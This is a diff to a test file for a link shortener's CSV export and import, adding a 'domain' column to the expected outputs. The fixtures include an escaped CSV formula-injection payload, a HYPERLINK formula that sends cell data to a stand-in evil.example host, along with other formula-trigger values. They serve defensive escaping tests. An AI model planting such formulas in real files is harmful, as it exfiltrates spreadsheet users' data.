@@ -46,10 +46,10 @@ test('the links CSV export: a title, tags and a code that start a formula are wr
   const csv = await get(a, '/api/export?format=csv');
   assert.equal(
     csv,
-    'short_code,short_url,original_url,created_at,visit_count,retention_days,max_visits,title,tags,author\r\n' +
-      `'-cmd01,https://s.example/-cmd01,https://example.com/1,${NOW},0,0,,"'=HYPERLINK(""https://evil.example/?""&A1,""Open"")","'-draft,q2",\r\n` +
-      `plain1,https://s.example/plain1,https://example.com/2,${NOW},0,0,,''=already escaped,'+1,\r\n` +
-      `plain2,https://s.example/plain2,https://example.com/3,${NOW},0,0,,'@SUM(1),,\r\n`,
+    'short_code,short_url,original_url,created_at,visit_count,retention_days,max_visits,title,tags,author,domain\r\n' +
+      `'-cmd01,https://s.example/-cmd01,https://example.com/1,${NOW},0,0,,"'=HYPERLINK(""https://evil.example/?""&A1,""Open"")","'-draft,q2",,\r\n` +
+      `plain1,https://s.example/plain1,https://example.com/2,${NOW},0,0,,''=already escaped,'+1,,\r\n` +
+      `plain2,https://s.example/plain2,https://example.com/3,${NOW},0,0,,'@SUM(1),,,\r\n`,
   );
   const b = await open(t);
   assert.deepEqual(await post(b, '/api/import', 'text/csv', csv), { imported: 3, skipped: 0, errors: [] });
@@ -74,11 +74,11 @@ test('the visits CSV export: a Referer whose host is a formula is no referrer; a
   const csv = await get(a, '/api/visits/export?format=csv');
   assert.equal(
     csv,
-    'short_code,time,referrer,country,browser,os,device,bot\r\n' +
-      `'-cmd01,${NOW},,,Firefox,Linux,desktop,false\r\n` +
-      `plain1,${NOW + 1},,,Firefox,Linux,desktop,false\r\n` +
-      `plain1,${NOW + 2},'-x.example,,Firefox,Linux,desktop,false\r\n` +
-      `'-cmd01,${NOW + 3},news.example,,Firefox,Linux,desktop,false\r\n`,
+    'short_code,time,referrer,country,browser,os,device,bot,domain\r\n' +
+      `'-cmd01,${NOW},,,Firefox,Linux,desktop,false,\r\n` +
+      `plain1,${NOW + 1},,,Firefox,Linux,desktop,false,\r\n` +
+      `plain1,${NOW + 2},'-x.example,,Firefox,Linux,desktop,false,\r\n` +
+      `'-cmd01,${NOW + 3},news.example,,Firefox,Linux,desktop,false,\r\n`,
   );
   const b = await open(t);
   assert.deepEqual(await post(b, '/api/import', 'text/csv', await get(a, '/api/export?format=csv')), { imported: 2, skipped: 0, errors: [] });
@@ -110,6 +110,6 @@ test('the visits import refuses a referrer no visit records, escaped or not, eac
   });
   assert.equal(
     await get(h, '/api/visits/export'),
-    `{"short_code":"plain1","time":${NOW},"referrer":"-x.example","country":null,"browser":null,"os":null,"device":null,"bot":false}\n`,
+    `{"short_code":"plain1","time":${NOW},"referrer":"-x.example","country":null,"browser":null,"os":null,"device":null,"bot":false,"domain":null}\n`,
   );
 });
